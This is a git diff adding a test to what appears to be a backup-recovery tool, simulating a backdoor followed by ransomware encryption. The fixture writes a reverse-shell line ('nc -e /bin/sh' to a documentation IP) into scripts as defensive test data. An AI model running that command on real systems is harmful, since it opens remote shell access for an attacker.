@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict'
 import { randomBytes } from 'node:crypto'
-import { chmodSync } from 'node:fs'
+import { chmodSync, rmSync } from 'node:fs'
 import { join } from 'node:path'
 import { test } from 'node:test'
 
@@ -126,4 +126,29 @@ test('two versions side by side say what differs', async (t) => {
   assert.equal(view.previous?.type, 'text')
   assert.ok((view.newest.entropy ?? 0) > 7.5 && (view.previous?.entropy ?? 9) < 5)
   assert.equal(view.same?.atStart, Buffer.byteLength(prose.slice(0, 100)))
+})
+
+test('what the plan takes instead of an encrypted version is looked at too when it was written inside the window', async (t) => {
+  const place = await ground(t, memory)
+  const script = '#!/bin/sh\necho "a day of work"\n'.repeat(80)
+  write(place, { 'run.sh': script, 'gone.sh': script, 'quiet.sh': script, 'a.txt': prose })
+  await snapshot(place)
+  // Two nights before: a back door. Then everything is encrypted, one file under another name.
+  write(place, { 'run.sh': `${script}nc -e /bin/sh 192.0.2.1 4444\n` })
+  write(place, { 'gone.sh': `${script}nc -e /bin/sh 192.0.2.1 4444\n` })
+  await snapshot(place)
+  for (const name of ['run.sh', 'quiet.sh', 'a.txt']) write(place, { [name]: randomBytes(4000) })
+  rmSync(join(place.machine, 'gone.sh'))
+  write(place, { 'gone.sh.locked': randomBytes(4000) })
+  await snapshot(place)
+  const queue = await queueOf(place)
+  assert.deepEqual(
+    listed(queue).filter((line) => line.includes('N5')),
+    ['/gone.sh: N5 newest', '/run.sh: N5 newest'],
+  )
+  const groups = queue.units.flatMap((unit) => unit.groups).filter((group) => group.class === 'N5')
+  assert.ok(groups.every(needsPerson))
+  const [first] = await place.repository.listSnapshots()
+  for (const { items } of groups)
+    for (const { previous } of items) assert.equal(previous?.snapshot, first?.id)
 })
